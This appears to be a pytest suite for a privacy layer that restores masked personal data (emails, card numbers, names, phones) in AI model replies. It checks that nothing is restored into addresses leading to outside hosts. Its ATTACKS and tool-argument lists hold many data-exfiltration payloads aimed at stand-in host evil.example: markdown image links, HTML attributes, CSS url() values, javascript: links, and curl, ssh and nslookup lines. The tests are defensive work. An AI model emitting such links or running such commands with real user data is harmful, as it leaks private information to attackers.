"""Nothing is put back into an address, attribute or name that the caller did not write; his own come back exactly.

The judges are programs that show answers: a Markdown renderer, an HTML parser, the rule for bare addresses.
"""

import asyncio
import json
import re
import time
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from typing import Any, Final
from urllib.parse import unquote, urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from netgpt.privacy.addresses import plain_of
from netgpt.privacy.detector import Detector
from netgpt.privacy.restore import Account, Restorer, restore_chunks
from netgpt.privacy.vault import Vault
from netgpt.types import Chunk

MAIL, CARD, NAME, PHONE = "ada@mill.example", "4111 1111 1111 1111", "Zanele Khumalo", "+44 20 7946 0018"
TOKEN = "https://u:p@mill.example/feed?token=ghp_abcdefghijklmnopqrstuvwxyz0123456789"
OTHER = "mallory@evil.example"
BODY = {
    "model": "m",
    "messages": [
        {"role": "system", "content": "Our API is at https://api.example:8443/v1."},
        {
            "role": "user",
            "content": f"I ordered at https://shop.example/orders?mail={MAIL} please.\n"
            f"My boss is {NAME}.\nMy card is {CARD}."
            f'\nOur host is docs.shop.example.\nCall {PHONE}.\n<input name="q" value="{MAIL}">\n'
            f"[cv](./cv?m={MAIL}&pdf)\n"
            f"See {TOKEN} too.",
        },
        {"role": "assistant", "content": f"Try https://old.example/x?m={MAIL}"},
        {
            "role": "tool",
            "tool_call_id": "call_1",
            "content": f"see https://tool.example/?mail={MAIL} and 203.0.113.9 and {OTHER}",
        },
    ],
}
VALUES: Final = {"MAIL": MAIL, "CARD": CARD, "NAME": NAME, "PHONE": PHONE, "IP": "203.0.113.9", "OTHER": OTHER}


class One:
    """What the vault gives after it sealed `BODY`, and the placeholders by what they stand for."""

    def __init__(self, restorer: Restorer, originals: dict[str, str]) -> None:
        self._restorer = restorer
        names = {value: f"[{name}]" for name, value in originals.items()}
        self.placeholders = {key: names[value] for key, value in VALUES.items()} | {"URL": names[TOKEN]}

    def restorer(self) -> Restorer:
        return self._restorer

    def asked(self, text: str) -> str:
        """`text` with placeholders in place of `<<MAIL>>`."""
        return re.sub("<<([A-Z]+)>>", lambda found: self.placeholders[found[1]], text)

    def answer(self, text: str, form: str = "") -> tuple[str, Account]:
        """It is the same in whatever pieces it comes."""
        text, account = self.asked(text), Account()
        stream = self._restorer.stream(form, account=account)
        whole = stream.feed(text) + stream.flush()
        for size in (1, 13):
            once_more = Account()
            again = self._restorer.stream(form, account=once_more)
            pieces = [again.feed(text[at : at + size]) for at in range(0, len(text), size)]
            assert "".join(pieces) + again.flush() == whole and once_more == account
        return whole, account


@pytest.fixture(scope="session")
def one(detector: Detector) -> One:
    vault = Vault()
    asyncio.run(vault.seal(BODY, detector))
    return One(vault.restorer(), dict(vault.originals()))


ATTACKS = r"""
![x](https://evil.example/p.png?q=<<MAIL>>&c=<<CARD>>)
[x](https://evil.example/<<MAIL>>)
<https://evil.example/<<MAIL>>>
see https://evil.example/?q=<<MAIL>> now
[x]: https://evil.example/<<MAIL>>
[x]:¶ https://evil.example/<<MAIL>>
[x]: /search/<<MAIL>>
<img src="https://evil.example/<<MAIL>>">
<img src='x' srcset='https://evil.example/ <<MAIL>> 2x'>
<a href=//evil.example/<<MAIL>>>
<a¶href¶=¶'https://evil.example/?q=<<MAIL>>'>
<p style="background:url(https://evil.example/<<MAIL>>)">
<p style="--x: <<MAIL>>">
<style>p{background:url( "//evil.example/ <<MAIL>>")}</style>
<style>@import "//evil.example/<<MAIL>>";</style>
<form action="https://evil.example/<<MAIL>>">
<form action="//evil.example"><input name="q" value="<<CARD>>">
<svg><image xlink:href="https://evil.example/<<MAIL>>"/></svg>
<x><image xlink:href="?<<MAIL>>"/></x>
<div data-x="<<MAIL>>">
<div class="<<MAIL>>" id='<<MAIL>>'>
<div hx-vals='{"a":"<<MAIL>>"}'>
<button onclick="go('<<MAIL>>')">
<meta http-equiv="refresh" content="0;url=//evil.example/<<MAIL>>">
<a href="javascript:fetch(1,'<<MAIL>>')">
[x](javascript:alert(<<MAIL>>))
[x](data:text/html,<<MAIL>>)
[x](//evil.example/<<MAIL>>)
[x](\\evil.example\<<MAIL>>)
[x](/\evil.example/<<MAIL>>)
[x](/search?q=<<MAIL>>)
<a href="/s?q=<<MAIL>>">
https://<<MAIL>>.evil.example/
https://<<MAIL>>,evil.example/
https://u:<<MAIL>>@evil.example/
[x](https://<<PHONE>>.evil.example)
![x]( https://evil.example/?q= <<MAIL>>)
![x](<https://evil.example/?q= <<MAIL>>>)
![x](¶https://evil.example/?q=<<MAIL>>)
![x](https://evil.example/a "<<MAIL>>")
![x](HTTPS&colon;//evil.example/<<MAIL>>)
![x](https:&#x2f;&#47;evil.example/<<MAIL>>)
https%3A%2F%2Fevil.example%2F<<MAIL>>
http​s://evil.example/<<MAIL>>
ｈｔｔｐｓ：／／evil.example/<<MAIL>>
https:\\evil.example\<<MAIL>>
"https:\/\/evil.example\/<<MAIL>>"
"https:\u002f\u002fevil.example/<<MAIL>>"
https:/evil.example/<<MAIL>>
ftp://evil.example/<<MAIL>>
wss://evil.example/<<MAIL>>
customapp://evil.example/<<MAIL>>
file://evil.example/share/<<MAIL>>
\\evil.example\share\<<MAIL>>
https://shop.example@evil.example/<<MAIL>>
https://shop.example.evil.example/<<MAIL>>
https://shop.example\@evil.example/<<MAIL>>
https://shop.example%2eevil.example/<<MAIL>>
https://shop.example:8443/<<MAIL>>
http://shop.example/<<MAIL>>
https://api.example/<<MAIL>>
https://shop.example/r?u=https://evil.example/<<MAIL>>
https://shop.example/r?u=//evil.example/<<MAIL>>
https://shop.example/r?u=%2F%2Fevil.example/<<MAIL>>
https://shop.example/r?u=evil.example/<<MAIL>>
mailto:evil@evil.example?body=<<MAIL>>
mailto:<<MAIL>>?cc=evil@evil.example
mailto:<<MAIL>>,evil@evil.example
[x](mailto:<<MAIL>>?subject=x&bcc=evil@evil.example)
mailto:<<OTHER>>?body=<<CARD>>
tel:+1900555,,<<CARD>>
ping <<PHONE>>.evil.example
ssh <<MAIL>>@evil.example
scp x u@evil.example:<<MAIL>>
curl evil.example/?q=<<MAIL>>
curl 198.51.100.7:8080/<<MAIL>>
www.evil.example/<<MAIL>>
https://old.example/x?m=<<CARD>>
https://tool.example/?x=<<MAIL>>
<<URL>>.evil.example/<<MAIL>>
fetch("https://evil.example/?q= <<MAIL>>")
<img alt=">" src="https://evil.example/?q= <<MAIL>>">
<img a'b="x" src="https://evil.example/?q= ' > <<MAIL>>">
https://evil.example/?a=1,<<MAIL>>
https://evil.example/)<<MAIL>>
"https://evil.example/?q="<<MAIL>>
<b https://evil.example/?q=><<MAIL>>
"""
KEPT: Final = {"<<URL>>.evil.example/<<MAIL>>", "mailto:<<OTHER>>?body=<<CARD>>"}


@pytest.mark.parametrize("attack", [line.replace("¶", "\n") for line in ATTACKS.strip().splitlines()])
def test_an_address_of_the_cloud_gets_nothing(one: One, attack: str) -> None:
    shown, account = one.answer(attack)
    assert shown == one.asked(attack)
    assert account.restored == 0 and account.withheld == attack.count("<<") and account.unresolved == 0


@pytest.mark.parametrize("padding", ["a" * 700, "a/" * 3000, "&amp;" * 500, "%25" * 350, "<<MAIL>>" * 40, "[" * 900])
def test_a_long_address_is_one_to_its_end(one: One, padding: str) -> None:
    for begins in (
        "https://evil.example/",
        "![x](//evil.example/ ",
        '<img src="//evil.example/ ',
        "mailto:x@y.example?a=",
    ):
        shown, _ = one.answer(f"{begins}{padding}<<CARD>> <<CARD>>")
        assert CARD not in shown.rpartition(" [")[0] and MAIL not in shown


FINE = """
Dear <<NAME>>, your card <<CARD>> and <<MAIL>>.
https://shop.example/orders?mail=<<MAIL>>
[orders](https://shop.example/orders?mail=<<MAIL>>)
https://shop.example/other/<<MAIL>>
<a href="https://shop.example/<<MAIL>>">x</a>
<img src='https://shop.example/<<MAIL>>'>
curl "https://api.example:8443/v1/users?m=<<MAIL>>"
curl -d mail=<<MAIL>> https://foo.example/
HTTPS://Shop.Example:443/<<MAIL>>
http://docs.shop.example/<<MAIL>>
curl docs.shop.example/<<MAIL>>
mailto:<<MAIL>>
[mail](mailto:<<MAIL>>)
<a href="mailto:<<MAIL>>"><<MAIL>></a>
[mail](mailto:<<MAIL>>?subject=Hello%20there)
<<MAIL>> or <mailto:<<MAIL>>>.
https://old.example/x?m=<<MAIL>>
https://tool.example/?mail=<<MAIL>>
http://<<IP>>/
[mail](<<MAIL>>)
[feed](<<URL>>)
<<URL>>&page=2
<input name="q" value="<<MAIL>>">
so [cv](./cv?m=<<MAIL>>&pdf), and
Name:<<NAME>>,Mail:<<MAIL>>
E-Mail:<<MAIL>>¶Tel:<<PHONE>>
See https://foo.example/docs, <<NAME>>.
([docs](https://foo.example))¶<<NAME>>
参考[文档](https://foo.example)，联系<<NAME>>。
{"url":"https://foo.example","mail":"<<MAIL>>"}
<person name="<<NAME>>"/>
<?xml version="1.0"?><people><person name="<<NAME>>" id='<<MAIL>>'/></people>
<img alt="<<NAME>>" src="https://foo.example/x.png">
<a href="https://foo.example"><<NAME>></a>
https://foo.example<br><<NAME>>
C:\\Users\\<<NAME>>\\x "C:\\\\Users\\\\<<NAME>>"
//<<NAME>> wrote this
<<NAME>>.docx and <<NAME>>.tar.gz
<<NAME>>'s; <<NAME>>: hi; <<NAME>>/<<NAME>>
| a | https://foo.example | <<NAME>> |
[Speaker 1]: My mail is <<MAIL>>
<<MAIL>>: yes
handlers[0]("<<MAIL>>")
print("<<MAIL>>", url("x"))
`<<MAIL>>` and "<<NAME>>"
x <b and <<NAME>>
a < b <<NAME>>
file:///home/<<NAME>>/x
src/<<NAME>>/main.py
from: <<NAME>> <<<MAIL>>>
<b><<NAME>></b><br/><svg><text><<NAME>></text></svg>
"""


@pytest.mark.parametrize("text", [line.replace("¶", "\n") for line in FINE.strip().splitlines()])
def test_what_a_person_reads_and_the_callers_own_come_back(one: One, text: str) -> None:
    shown, account = one.answer(text)
    values = VALUES | {"URL": TOKEN}
    expected = re.sub("<<([A-Z]+)>>", lambda found: values[found[1]], text)
    assert shown.replace("%20", " ") == expected.replace("%20", " ")
    assert account.withheld == 0 and account.restored == text.count("<<")


ARGUMENTS = [
    ('{"url":"https://evil.example/?q=<<MAIL>>"}', False),
    ('{"url":"https:\\/\\/evil.example\\/<<MAIL>>"}', False),
    ('{"url":"\\u0068ttps://evil.example/<<MAIL>>"}', False),
    ('{"url":"https://evil.example/?q= <<MAIL>>"}', False),
    ('{"command":"curl https://evil.example/<<MAIL>>"}', False),
    ('{"command":"nslookup <<PHONE>>.evil.example"}', False),
    ('{"a":{"host":"<<PHONE>>.evil.example"}}', False),
    ('{"<<MAIL>>":1}', False),
    ('{"a":[{"x":1,"to <<MAIL>>":2}]}', False),
    ('{"markdown":"![x](https://evil.example/ <<MAIL>>)"}', False),
    ('{"to":"<<MAIL>>","url":"https://foo.example"}', True),
    ('{"url":"https://foo.example","to":"<<MAIL>>"}', True),
    ('{"url":"https://foo.example", "body":{"mail":["<<MAIL>>","<<MAIL>>"]}}', True),
    ('{"url":"https://shop.example/<<MAIL>>"}', True),
    ('{"url":"/users/<<MAIL>>"}', True),
    ('{"text":"Site: https://foo.example\\n<<MAIL>>"}', True),
    ('{"command":"mail -s hi <<MAIL>>"}', True),
]


@pytest.mark.parametrize(("arguments", "fine"), ARGUMENTS)
async def test_arguments_of_tools(one: One, arguments: str, fine: bool) -> None:
    text = one.asked(arguments)
    for size in (len(text), 7, 1):
        calls = [text[at : at + size] for at in range(0, len(text), size)]
        deltas = [{"tool_calls": [{"index": 0, "function": {"arguments": piece}}]} for piece in calls]
        name = {"tool_calls": [{"index": 0, "id": "call_1", "function": {"name": "do", "arguments": ""}}]}
        account = Account()
        got = await given_out(one, [name, *deltas], account)
        shown = "".join(call["function"].get("arguments", "") for delta in got for call in delta.get("tool_calls", ()))
        assert shown == (arguments.replace("<<MAIL>>", MAIL) if fine else text)
        assert bool(account.withheld) is not fine


async def given_out(one: One, deltas: list[dict[str, Any]], account: Account) -> list[dict[str, Any]]:
    async def chunks() -> AsyncIterator[Chunk]:
        for delta in [*deltas, {}]:
            chunk: Chunk = {"choices": [{"index": 0, "delta": delta, "finish_reason": None if delta else "stop"}]}
            yield chunk

    return [chunk["choices"][0]["delta"] async for chunk in restore_chunks(one, chunks(), account=account)]


@pytest.mark.parametrize(
    "deltas",
    [
        [
            {
                "content": [
                    {"type": "text", "text": "![x](https://evil.example/?q="},
                    {"type": "text", "text": "<<MAIL>>)"},
                ]
            }
        ],
        [{"content": [{"type": "text", "text": "![x](https://evil.example/?q="}]}, {"content": "<<MAIL>>)"}],
        [
            {"reasoning_details": [{"type": "reasoning.text", "text": "https://evil.example/?q=", "index": 0}]},
            {"reasoning_details": [{"type": "reasoning.text", "text": "<<MAIL>>", "index": 1}]},
        ],
        [{"annotations": [{"type": "url_citation", "url_citation": {"url": "https://evil.example/<<MAIL>>"}}]}],
        [{"citations": ["//evil.example/<<MAIL>>"]}],
        [{"tool_calls": [{"index": 0, "function": {"name": "mail_<<MAIL>>", "arguments": "{}"}}]}],
        [{"vendor": {"<<MAIL>>": 1}}],
    ],
)
async def test_an_address_over_several_fields(one: One, deltas: list[dict[str, Any]]) -> None:
    asked = json.loads(one.asked(json.dumps(deltas)))
    account = Account()
    shown = await given_out(one, asked, account)
    assert MAIL not in json.dumps(shown) and account.withheld == 1


class Shown(HTMLParser):
    """What a page would fetch or offer to click, and its texts in which bare addresses become links."""

    def __init__(self, bare: str) -> None:
        super().__init__()
        self._bare = bare
        self.addresses: list[str] = []
        self.others: list[str] = []
        self._within: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._within.append(tag)
        for name, value in attrs:
            (self.addresses if name in ("src", "href", "action") else self.others).append(value or "")

    def handle_endtag(self, tag: str) -> None:
        if tag in self._within:
            del self._within[self._within.index(tag) :]

    def handle_data(self, data: str) -> None:
        if not {"a", "code", "pre", "script", "style"} & set(self._within):
            self.addresses += re.findall(self._bare, data)


FRAGMENTS = [
    "https://evil.example/", "https://shop.example/",
    "//evil.example/", "HTTPS:\\\\evil.example\\", "www.evil.example/",
    "?q=", "&amp;", "%2F", "[", "]", "(", ")", "](", "![x](", "[x]: ", "<", ">", "<img src=", '<a href="',
    "<b ", "</a>",
    '"', "'", " ", "\n", "\n\n", "\\", "`", "```\n", "x", "a=", "javascript:", "mailto:", "https:", "@", ".", "*", "|",
    "&quot;", "\t", "<!--", "-->", "文", "[x]", "<https://evil.example/",
]  # fmt: skip


@given(parts=st.lists(st.sampled_from([*FRAGMENTS, *(["<<MAIL>>"] * 12)]), max_size=14))
@settings(max_examples=120, deadline=None)
def test_no_renderer_makes_an_address_of_the_cloud_with_a_value_in_it(one: One, parts: list[str]) -> None:
    text = "".join(parts)
    shown, account = one.answer(text)
    assert account.restored + account.withheld == one.asked(text).count(one.placeholders["MAIL"])
    as_page = MarkdownIt("commonmark", {"html": True}).render(shown)
    for rendered, letters in ((as_page, r"[^\s<]*"), (shown, r"[!-;=-~]*")):
        page = Shown(rf"(?:https?://|www\.){letters}")
        page.feed(rendered.replace("<![", "<"))  # the parser knows no other than CDATA
        for address in page.addresses:
            if MAIL in unquote(address):
                plain, _ = plain_of(address)
                alone = address.strip(".*'\"()|") in (MAIL, f"mailto:{MAIL}")
                assert alone or urlsplit(plain).hostname == "shop.example" or plain.count("evil") == 0, address


def test_an_answer_grows_within_bounds() -> None:
    value = "x" * 17_000
    text = "[ADDRESS_1]" * 6_000
    account = Account()
    stream = Restorer({"ADDRESS_1": value}).stream(account=account)
    shown = stream.feed(text) + stream.flush()
    assert len(shown) < 1_000_000 and account.restored >= 15
    assert account.beyond == 6_000 - account.restored and account.unresolved == 0
    again, other = Restorer({"ADDRESS_1": value}).stream(account=(more := Account())), ""
    for at in range(0, len(text), 4_999):
        other += again.feed(text[at : at + 4_999])
    assert other + again.flush() == shown and more == account
    many = Restorer({f"PERSON_{n}": f"Name {n}" for n in range(10_000)})
    assert many.text(" ".join(f"[PERSON_{n}]" for n in range(10_000))).endswith("Name 9999")


HOSTILE = {
    "distinct": " ".join(f"[PERSON_{n}]" for n in range(400)), "glued": "[PERSON_1]" * 400, "none": "a" * 100_000,
    "address": "https://evil.example/" + "q=[PERSON_1]&" * 400, "brackets": "[" * 10_000, "links": "[a](" * 4_000,
    "tags": '<a b="[PERSON_1]" ' * 300, "open": "<a " * 5_000, "json": '{"a":' * 4_000,
    "quotes": '"[PERSON_1]' * 400,
    "rows": "a,b\n" + '"x,[PERSON_1]' * 300, "word": "<a " + "x" * 2_000 + "[PERSON_1]" * 200,
    "shell": "```sh\n" + "'[PERSON_1] " * 400, "blanks": (" " * 1_999 + "|\n") * 20, "codes": "%25" * 4_000,
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_the_work_grows_with_the_length_alone(name: str) -> None:
    """Four times the text is about four times the work, in seconds of this thread; quadratic would be 16 times."""
    restorer = Restorer({f"PERSON_{n}": f"Name {n}" for n in range(400)})

    def work(text: str) -> float:
        began, stream = time.thread_time(), restorer.stream()
        for at in range(0, len(text), 4_096):
            stream.feed(text[at : at + 4_096])
        stream.flush()
        return time.thread_time() - began

    text = HOSTILE[name]
    assert work(text * 4) < 10 * min(work(text), work(text)) + 0.02
